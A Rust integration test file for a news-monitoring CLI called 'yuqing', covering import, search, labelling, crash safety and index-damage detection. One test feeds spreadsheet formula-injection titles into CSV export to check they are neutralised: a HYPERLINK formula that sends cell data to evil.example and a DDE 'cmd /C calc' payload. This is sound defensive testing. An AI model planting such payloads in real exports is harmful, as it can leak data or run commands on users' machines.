//! `yuqing import`, `search`, `label`, `reindex` and `check` on articles the team writes, and
//! crash safety: `yuqing import` killed with SIGKILL at several points, then run again.

use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};
use std::time::Duration;

fn root() -> &'static Path {
    Path::new(env!("CARGO_MANIFEST_DIR"))
}

fn yuqing(data: &Path, args: &[&str]) -> (i32, String, String) {
    let out = Command::new(env!("CARGO_BIN_EXE_yuqing"))
        .arg("--data")
        .arg(data)
        .args(args)
        .current_dir(root())
        // the tests that hold the index writer themselves wait two seconds, not ten minutes
        .env("YUQING_WAIT_SECS", "2")
        .output()
        .expect("run yuqing");
    (
        out.status.code().unwrap_or(-1),
        String::from_utf8_lossy(&out.stdout).into_owned(),
        String::from_utf8_lossy(&out.stderr).into_owned(),
    )
}

fn temp(name: &str) -> PathBuf {
    let d = std::env::temp_dir().join(format!("yuqing-{name}-{}", std::process::id()));
    let _ = std::fs::remove_dir_all(&d);
    std::fs::create_dir_all(&d).unwrap();
    d
}

const WHO: &[&str] = &[
    "省科协",
    "市科协",
    "中国化学会",
    "北京市科协",
    "科技日报记者",
    "农业科学院",
    "县医院",
    "青年科学家",
    "地质勘查院",
    "中华医学会",
    "科普中国",
    "全国学会",
];
const DID: &[&str] = &[
    "举办", "召开", "发布", "组织", "开展", "参加", "启动", "总结", "推广", "表彰",
];
const WHAT: &[&str] = &[
    "科普讲座",
    "学术年会",
    "青少年科技创新大赛",
    "抗旱小麦新品种",
    "冰川科考",
    "典型案例汇编",
    "志愿服务活动",
    "学会改革试点",
    "人才培养计划",
    "成果转化项目",
    "实验室开放日",
    "科学家精神报告会",
];
const WHERE: &[&str] = &[
    "在北京",
    "在上海",
    "在杭州",
    "在成都",
    "在西安",
    "在拉萨",
    "在广州",
    "在武汉",
];

/// `n` articles as import lines; every 5th repeats the previous body under a new URL.
fn articles(n: usize) -> String {
    let mut out = String::new();
    for i in 0..n {
        let base = if i % 5 == 4 { i - 1 } else { i };
        let mut x = base as u64 * 2654435761 + 12345;
        let mut next = |m: usize| {
            x ^= x << 13;
            x ^= x >> 7;
            x ^= x << 17;
            (x % m as u64) as usize
        };
        let body: String = (0..12)
            .map(|_| {
                format!(
                    "{}{}{}{}。",
                    WHO[next(WHO.len())],
                    WHERE[next(WHERE.len())],
                    DID[next(DID.len())],
                    WHAT[next(WHAT.len())]
                )
            })
            .collect();
        let body = format!("第{base}号稿件。{body}");
        let day = 1 + (i % 28);
        let unit = ["cast", "bast", "ccdi"][i % 3];
        out.push_str(
            &serde_json::json!({
                "url": format!("https://site{}.example.cn/a/{i}.html?utm_source=x", i % 3),
                "title": format!("{}{}（{base}）", WHO[base % WHO.len()], WHAT[base % WHAT.len()]),
                "text": body,
                "published_at": format!("2025-04-{day:02}T09:30:00+08:00"),
                "source": format!("src-{}", i % 3),
                "unit": unit,
            })
            .to_string(),
        );
        out.push('\n');
    }
    out
}

#[test]
fn import_search_label_reindex() {
    let dir = temp("search");
    let file = dir.join("in.jsonl");
    let mut lines = articles(40);
    lines.push_str("not json\n{\"url\":\"ftp://x\",\"title\":\"t\",\"text\":\"b\"}\n");
    lines.push_str("{\"url\":\"https://x.example.cn/1.html\",\"title\":\"省科协科普讲座\",\"text\":\"科普讲座举行。\",\"unit\":\"no-such-unit\"}\n");
    std::fs::write(&file, lines).unwrap();
    let data = dir.join("data");
    let (code, out, err) = yuqing(&data, &["import", file.to_str().unwrap()]);
    assert_eq!(code, 1, "three bad lines make the run partial: {out}{err}");
    assert!(err.contains("line 41: not an article object"), "{err}");
    assert!(
        err.contains("line 42: url \"ftp://x\" is not an absolute http(s) address"),
        "{err}"
    );
    assert!(
        err.contains("line 43: unit \"no-such-unit\" is not a unit of the configuration"),
        "{err}"
    );
    assert!(out.contains("新增 40"), "{out}");

    // a second import changes nothing
    let (_, out, _) = yuqing(&data, &["import", file.to_str().unwrap()]);
    assert!(out.contains("新增 0 · 更新 0 · 未变 40"), "{out}");

    let (code, out, _) = yuqing(
        &data,
        &["search", "科协", "--json", "--all", "--limit", "100"],
    );
    assert_eq!(code, 0);
    let v: serde_json::Value = serde_json::from_str(&out).unwrap();
    let total = v["total"].as_u64().unwrap();
    assert!(total > 0);
    let hit = &v["hits"][0];
    for key in [
        "id",
        "url",
        "title",
        "published_at",
        "source",
        "unit",
        "tags",
        "snippet",
        "score",
    ] {
        assert!(hit.get(key).is_some(), "{key} missing: {hit}");
    }
    assert!(hit["snippet"].as_str().unwrap().contains("<b>"), "{hit}");

    // collapsing: reposts are folded into one hit per story
    let (_, out, _) = yuqing(&data, &["search", "\"第3号稿件\"", "--json"]);
    let v: serde_json::Value = serde_json::from_str(&out).unwrap();
    assert_eq!(v["total"], 2, "{v}");
    assert_eq!(v["hits"].as_array().unwrap().len(), 1);
    assert_eq!(v["hits"][0]["reposts"], 1);

    // filters and CSV with a BOM
    let (_, out, _) = yuqing(
        &data,
        &[
            "search",
            "",
            "--unit",
            "ccdi",
            "--from",
            "2025-04-01",
            "--to",
            "2025-04-10",
            "--csv",
            "--limit",
            "100",
        ],
    );
    assert!(out.starts_with('\u{feff}'), "CSV starts with a BOM");
    let rows: Vec<&str> = out.trim_end().split("\r\n").collect();
    assert!(rows[0].contains("标题,单位"), "{}", rows[0]);
    assert!(
        rows.len() > 1 && rows.iter().skip(1).all(|r| r.contains(",ccdi,")),
        "{out}"
    );

    let (code, _, err) = yuqing(&data, &["search", "科协 AND"]);
    assert_eq!(code, 2);
    assert!(
        err.contains("invalid query: expression ends where a word was expected at column 7"),
        "{err}"
    );
    assert_eq!(err.lines().count(), 1);

    // an analyst's correction shows in search at once
    let id = v["hits"][0]["id"].as_u64().unwrap().to_string();
    let (code, out, _) = yuqing(
        &data,
        &["label", &id, "--tag", "典型人", "--analyst", "王编辑"],
    );
    assert_eq!(code, 0, "{out}");
    let (_, out, _) = yuqing(
        &data,
        &[
            "search",
            "\"第3号稿件\"",
            "--tag",
            "typical_person",
            "--json",
        ],
    );
    let v: serde_json::Value = serde_json::from_str(&out).unwrap();
    assert_eq!(v["total"], 1, "{v}");
    let (code, _, err) = yuqing(&data, &["label", "99999", "--tag", "typical_case"]);
    assert_eq!(code, 2);
    assert!(err.contains("no article with id 99999"), "{err}");

    // corrections feed training
    let model = dir.join("model.json");
    let (code, out, err) = yuqing(&data, &["train", "--output", model.to_str().unwrap()]);
    assert_eq!(code, 0, "{err}");
    assert!(out.contains("on 1 items"), "{out}");
    let m: serde_json::Value =
        serde_json::from_str(&std::fs::read_to_string(&model).unwrap()).unwrap();
    assert!(
        m["trained_on"]
            .as_str()
            .unwrap()
            .contains("analysts' labels on 1 article"),
        "{m}"
    );

    let (code, out, _) = yuqing(&data, &["reindex"]);
    assert_eq!(code, 0, "{out}");
    assert!(out.contains("40 篇"), "{out}");
    let (code, out, _) = yuqing(&data, &["check"]);
    assert_eq!(code, 0, "{out}");
    std::fs::remove_dir_all(dir).ok();
}

#[test]
fn killed_imports_lose_nothing_and_duplicate_nothing() {
    let dir = temp("crash");
    let file = dir.join("in.jsonl");
    let n = 1500;
    std::fs::write(&file, articles(n)).unwrap();
    let data = dir.join("data");
    // kill at a few points: early, while writing, later
    for delay_ms in [300u64, 900, 1600] {
        let mut child = Command::new(env!("CARGO_BIN_EXE_yuqing"))
            .arg("--data")
            .arg(&data)
            .args(["import", file.to_str().unwrap()])
            .current_dir(root())
            .stdout(Stdio::null())
            .stderr(Stdio::null())
            .spawn()
            .unwrap();
        std::thread::sleep(Duration::from_millis(delay_ms));
        let _ = child.kill(); // SIGKILL
        let _ = child.wait();
    }
    let (code, out, err) = yuqing(&data, &["import", file.to_str().unwrap()]);
    assert_eq!(code, 0, "{out}{err}");
    // every article exactly once
    let conn = rusqlite_free_count(&data);
    assert_eq!(conn, n, "articles in the store");
    let (code, out, _) = yuqing(&data, &["check"]);
    assert_eq!(code, 0, "store and index agree, integrity ok: {out}");
    let (_, out, _) = yuqing(&data, &["search", "", "--all", "--json", "--limit", "1"]);
    let v: serde_json::Value = serde_json::from_str(&out).unwrap();
    assert_eq!(
        v["total"].as_u64().unwrap() as usize,
        n,
        "the index holds each article once"
    );
    std::fs::remove_dir_all(dir).ok();
}

/// Counts articles through the CLI's JSON (the test does not open SQLite itself).
fn rusqlite_free_count(data: &Path) -> usize {
    let (_, out, _) = yuqing(data, &["search", "", "--all", "--json", "--limit", "1"]);
    let v: serde_json::Value = serde_json::from_str(&out).unwrap();
    v["total"].as_u64().unwrap() as usize
}

/// A scraped title that Excel would run as a formula goes into `search --csv` as text.
#[test]
fn csv_exports_cannot_run_formulas() {
    let dir = temp("csv-formula");
    let file = dir.join("in.jsonl");
    let titles = [
        r#"=HYPERLINK("http://evil.example/?"&A1,"科协")"#,
        "+cmd|' /C calc'!A0 科协",
        "@SUM(1+1) 科协",
        "-2+3 科协年会",
    ];
    let mut lines = String::new();
    for (i, t) in titles.iter().enumerate() {
        lines.push_str(
            &serde_json::json!({
                "url": format!("https://a.example.org/{i}.html"),
                "title": t,
                "text": format!("省科协在北京举办第{i}次科普讲座，三百名市民参加。"),
                "published_at": "2026-11-20 10:00",
            })
            .to_string(),
        );
        lines.push('\n');
    }
    std::fs::write(&file, lines).unwrap();
    let data = dir.join("data");
    let (code, out, err) = yuqing(&data, &["import", file.to_str().unwrap()]);
    assert_eq!(code, 0, "{out}{err}");
    let (code, csv, err) = yuqing(&data, &["search", "科协", "--csv", "--all"]);
    assert_eq!(code, 0, "{err}");
    let rows: Vec<&str> = csv.lines().skip(1).collect();
    assert_eq!(rows.len(), 4, "{csv}");
    for t in titles {
        // each title is there, as text: a leading apostrophe, quoted when it holds a quote
        let plain = format!(",'{t},");
        let quoted = format!(",\"'{}\",", t.replace('"', "\"\""));
        assert!(
            csv.contains(&plain) || csv.contains(&quoted),
            "{t} not neutralised in {csv}"
        );
    }
    for row in rows {
        for cell in row.split(',') {
            assert!(
                !cell
                    .trim_start_matches('"')
                    .starts_with(['=', '+', '-', '@']),
                "{cell} in {row}"
            );
        }
    }
    std::fs::remove_dir_all(dir).ok();
}

/// Hostile or careless queries get a one-line error naming the limit, exit 2: never an abort,
/// never a silent 0 hits.
#[test]
fn deep_queries_and_impossible_dates_are_errors() {
    let dir = temp("query-limits");
    let file = dir.join("in.jsonl");
    std::fs::write(&file, articles(5)).unwrap();
    let data = dir.join("data");
    let (code, _, err) = yuqing(&data, &["import", file.to_str().unwrap()]);
    assert_eq!(code, 0, "{err}");
    let deep = format!("{}科协{}", "(".repeat(1_500), ")".repeat(1_500));
    let nots = format!("{}科协", "NOT ".repeat(20_000));
    for (q, says) in [
        (deep.as_str(), "64 levels"),
        (nots.as_str(), "limit is 4000"),
    ] {
        let (code, out, err) = yuqing(&data, &["search", q]);
        assert_eq!(code, 2, "{out}{err}");
        assert!(err.contains(says), "{err}");
        assert_eq!(err.trim().lines().count(), 1, "{err}");
    }
    let (code, _, err) = yuqing(&data, &["search", "科协 date:1900-01-01..2262-04-12"]);
    assert_eq!(code, 2, "{err}");
    assert!(err.contains("1900-01-01 to 2200-12-31"), "{err}");
    let (code, _, err) = yuqing(
        &data,
        &[
            "search",
            "科协",
            "--from",
            "0001-01-01",
            "--to",
            "9999-12-31",
        ],
    );
    assert_eq!(code, 2, "{err}");
    assert!(err.contains("outside the range"), "{err}");
    // the widest range that can be searched finds everything
    let (code, out, err) = yuqing(
        &data,
        &[
            "search",
            "科协",
            "--from",
            "1900-01-01",
            "--to",
            "2200-12-31",
            "--json",
            "--all",
        ],
    );
    assert_eq!(code, 0, "{err}");
    let v: serde_json::Value = serde_json::from_str(&out).unwrap();
    let (_, all, _) = yuqing(&data, &["search", "科协", "--json", "--all"]);
    let w: serde_json::Value = serde_json::from_str(&all).unwrap();
    assert_eq!(v["total"], w["total"]);
    assert!(v["total"].as_u64().unwrap() > 0);
    std::fs::remove_dir_all(dir).ok();
}

/// With another process holding the index writer (as the daemon does), `label` saves the label
/// once and says the index follows; `import` fails with one line naming the busy index.
#[test]
fn a_busy_index_is_named_and_a_label_lands_once() {
    let dir = temp("busy");
    let file = dir.join("in.jsonl");
    std::fs::write(&file, articles(5)).unwrap();
    let data = dir.join("data");
    let (code, _, err) = yuqing(&data, &["import", file.to_str().unwrap()]);
    assert_eq!(code, 0, "{err}");
    let index =
        yuqing_index::SearchIndex::open(&data.join("search"), yuqing_text::Analyzer::builtin())
            .unwrap();
    let writer = index.writer(50_000_000).unwrap();

    let (code, out, err) = yuqing(&data, &["label", "1", "--tag", "typical_case"]);
    assert_eq!(code, 0, "{out}{err}");
    assert!(err.contains("the search index is busy"), "{err}");
    assert!(out.contains("已记录"), "{out}");
    let store = yuqing_store::Store::open(&data).unwrap();
    assert_eq!(store.labels().unwrap().len(), 1, "the label landed once");
    drop(store);

    let (code, out, err) = yuqing(&data, &["import", file.to_str().unwrap()]);
    assert_eq!(code, 1, "{out}{err}");
    assert!(
        err.contains("is being written by another yuqing process"),
        "{err}"
    );
    assert!(!err.contains("LockBusy"), "{err}");
    // one line while it waits, one when it gives up
    assert!(err.contains("等待中 (waiting)"), "{err}");
    assert_eq!(err.trim().lines().count(), 2, "{err}");

    // a rebuild while another process writes changes nothing and says who to wait for
    let (code, out, err) = yuqing(&data, &["reindex"]);
    assert_eq!(code, 1, "{out}{err}");
    assert!(err.contains("nothing was changed"), "{err}");
    assert!(!err.contains("LockBusy"), "{err}");
    assert!(data.join("search/meta.json").is_file());
    assert!(!data.join("search.new").exists());

    // once the writer is free, the label reaches the index
    drop(writer);
    let (code, _, err) = yuqing(&data, &["import", file.to_str().unwrap()]);
    assert_eq!(code, 0, "{err}");
    let (_, out, _) = yuqing(&data, &["search", "tag:typical_case", "--json", "--all"]);
    let v: serde_json::Value = serde_json::from_str(&out).unwrap();
    assert!(
        v["hits"].as_array().unwrap().iter().any(|h| h["id"] == 1),
        "{v}"
    );
    std::fs::remove_dir_all(dir).ok();
}

#[test]
fn damage_is_found_named_and_never_answered_with_a_destructive_fix() {
    let dir = temp("damage");
    let file = dir.join("in.jsonl");
    std::fs::write(&file, articles(30)).unwrap();
    let data = dir.join("data");
    let (code, _, err) = yuqing(&data, &["import", file.to_str().unwrap()]);
    assert_eq!(code, 0, "{err}");
    let (code, out, err) = yuqing(&data, &["check"]);
    assert_eq!(code, 0, "{out}{err}");
    let backup = dir.join("backup");
    std::fs::create_dir_all(&backup).unwrap();
    let db = data.join("yuqing.db");
    std::fs::copy(&db, backup.join("yuqing.db")).unwrap();

    // an interrupted rebuild leaves its folder: named, and the live index still answers
    std::fs::create_dir_all(data.join("search.new")).unwrap();
    let (code, out, _) = yuqing(&data, &["check"]);
    assert_eq!(code, 2, "{out}");
    assert!(out.contains("interrupted `yuqing reindex`"), "{out}");
    let (code, out, _) = yuqing(&data, &["reindex"]);
    assert_eq!(code, 0, "{out}");
    assert!(!data.join("search.new").exists());
    let (code, out, _) = yuqing(&data, &["check"]);
    assert_eq!(code, 0, "{out}");

    // overwritten bytes in the middle of an index file: the checksum says so
    let biggest = std::fs::read_dir(data.join("search"))
        .unwrap()
        .map(|e| e.unwrap().path())
        .filter(|p| p.extension().is_some_and(|e| e == "store"))
        .max_by_key(|p| std::fs::metadata(p).unwrap().len())
        .unwrap();
    let mut bytes = std::fs::read(&biggest).unwrap();
    let n = bytes.len();
    for b in &mut bytes[n / 4..n / 2] {
        *b = b.wrapping_mul(7).wrapping_add(13);
    }
    std::fs::write(&biggest, &bytes).unwrap();
    let (code, out, _) = yuqing(&data, &["check"]);
    assert_eq!(code, 2, "{out}");
    assert!(out.contains("is damaged"), "{out}");
    assert!(
        out.contains(biggest.file_name().unwrap().to_str().unwrap()),
        "{out}"
    );
    let (code, _, err) = yuqing(&data, &["search", "科普", "--all", "--limit", "100"]);
    assert!(code == 0 || code == 1, "no panic: {err}");
    assert!(!err.contains("panicked"), "{err}");
    let (code, out, err) = yuqing(&data, &["reindex"]);
    assert_eq!(code, 0, "{out}{err}");
    let (code, out, _) = yuqing(&data, &["check"]);
    assert_eq!(code, 0, "the rebuild repaired it: {out}");

    // a deleted database: check says restore, not reindex; reindex refuses
    std::fs::remove_file(&db).unwrap();
    let (code, out, _) = yuqing(&data, &["check"]);
    assert_eq!(code, 2, "{out}");
    assert!(
        out.contains("is missing while the search index holds 30 articles"),
        "{out}"
    );
    assert!(out.contains("do not run `yuqing reindex`"), "{out}");
    let (code, _, err) = yuqing(&data, &["reindex"]);
    assert_eq!(code, 2, "{err}");
    assert!(err.contains("restore it from a backup first"), "{err}");
    assert!(!db.exists(), "no empty database was created");
    // a zero-length one likewise, and check does not turn it into an empty schema
    std::fs::write(&db, b"").unwrap();
    let (code, out, _) = yuqing(&data, &["check"]);
    assert_eq!(code, 2, "{out}");
    assert!(out.contains("empty (0 bytes)"), "{out}");
    assert_eq!(std::fs::metadata(&db).unwrap().len(), 0);
    let (code, _, _) = yuqing(&data, &["reindex"]);
    assert_eq!(code, 2);
    // the index was never erased: with the database restored, all is well again
    std::fs::copy(backup.join("yuqing.db"), &db).unwrap();
    let (code, out, _) = yuqing(&data, &["check"]);
    assert_eq!(code, 0, "{out}");
    std::fs::remove_dir_all(dir).ok();
}
